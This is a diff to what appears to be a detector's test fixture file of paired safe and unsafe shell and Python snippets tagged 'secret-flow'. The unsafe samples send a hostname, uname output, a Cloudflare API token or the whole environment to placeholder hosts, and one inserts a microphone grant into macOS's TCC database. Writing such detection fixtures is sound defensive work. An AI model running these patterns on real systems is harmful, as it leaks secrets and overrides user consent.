@@ -3,6 +3,24 @@ export type Pair = readonly [what: string, good: string, bad: string, rule: stri
 
 export const SHELL_PAIRS: readonly Pair[] = [
   [
+    "a download for this kind of machine, and the name of the machine on its way out",
+    `kind=$(uname -s | tr A-Z a-z)\nchip=$(uname -m)\ncurl -sSL "https://dl.example.com/a-\${kind}-\${chip}.tgz" -o a.tgz\n`,
+    `name=$(uname -n)\ncurl -sSL "https://dl.example.com/a-\${name}.tgz" -o a.tgz\n`,
+    "secret-flow",
+  ],
+  [
+    "a download for this kind of machine, and everything uname says",
+    `curl -sSL "https://dl.example.com/\$(uname).tgz" -o a.tgz\n`,
+    `curl -sSL "https://dl.example.com/\$(uname -a).tgz" -o a.tgz\n`,
+    "secret-flow",
+  ],
+  [
+    "a key for its service by its short name, and for another",
+    `curl -s https://api.cloudflare.com/client/v4/zones?key=\$CF_API_TOKEN\n`,
+    `curl -s https://api.example.net/client/v4/zones -d "\$CF_API_TOKEN"\n`,
+    "secret-flow",
+  ],
+  [
     "consent that is taken back, and consent that is written in",
     `tccutil reset Microphone com.example.app\n`,
     `sqlite3 ~/Library/Application\\ Support/com.apple.TCC/TCC.db "INSERT INTO access VALUES('kTCCServiceMicrophone')"\n`,
@@ -68,6 +86,18 @@ export const SHELL_PAIRS: readonly Pair[] = [
 ];
 
 export const PYTHON_PAIRS: readonly Pair[] = [
+  [
+    "an environment that a test changes and puts back, and one it looks into",
+    `import os\nimport requests\nfrom unittest import mock\n\n\n@mock.patch.dict(os.environ, {"A": "b"})\ndef one():\n    with mock.patch.dict(os.environ, {"A": "c"}, clear=True):\n        requests.post("https://api.example.org/v1", data="x")\n`,
+    `import os\nimport requests\nfrom unittest import mock\n\nwith mock.patch.dict(os.environ, {}) as held:\n    requests.post("https://api.example.org/v1", json=dict(held))\n`,
+    "secret-flow",
+  ],
+  [
+    "an environment that a test changes, and one that the patch is kept for",
+    `import os\nimport requests\nfrom unittest.mock import patch\n\nwith patch.dict(os.environ, {"A": "b"}):\n    requests.post("https://api.example.org/v1", data="x")\n`,
+    `import os\nimport requests\nfrom unittest.mock import patch\n\nkept = patch.dict(os.environ)\nrequests.post("https://api.example.org/v1", json=kept.in_dict)\n`,
+    "secret-flow",
+  ],
   [
     "a file that is fetched for a program, and one that is the program",
     `import subprocess, urllib.request\nurllib.request.urlretrieve("https://data.example.org/model.bin", "model.bin")\nsubprocess.run(["whisper-cli", "-m", "model.bin"], check=True)\n`,
